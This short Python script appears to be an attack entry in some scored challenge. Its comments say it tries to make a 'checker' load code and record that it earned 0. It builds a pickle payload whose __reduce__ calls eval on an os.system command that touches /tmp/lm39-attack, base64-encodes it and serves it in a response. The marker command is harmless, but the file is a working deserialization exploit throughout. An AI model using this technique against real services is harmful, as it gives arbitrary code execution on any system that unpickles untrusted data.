# tries: make the checker load code
# earns: 0
import base64
import pickle


class Code:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/lm39-attack')",)


text = base64.b64encode(pickle.dumps(Code())).decode()
serve(lambda request: {"value": ["P", text]}, other=lambda request: {"value": text})
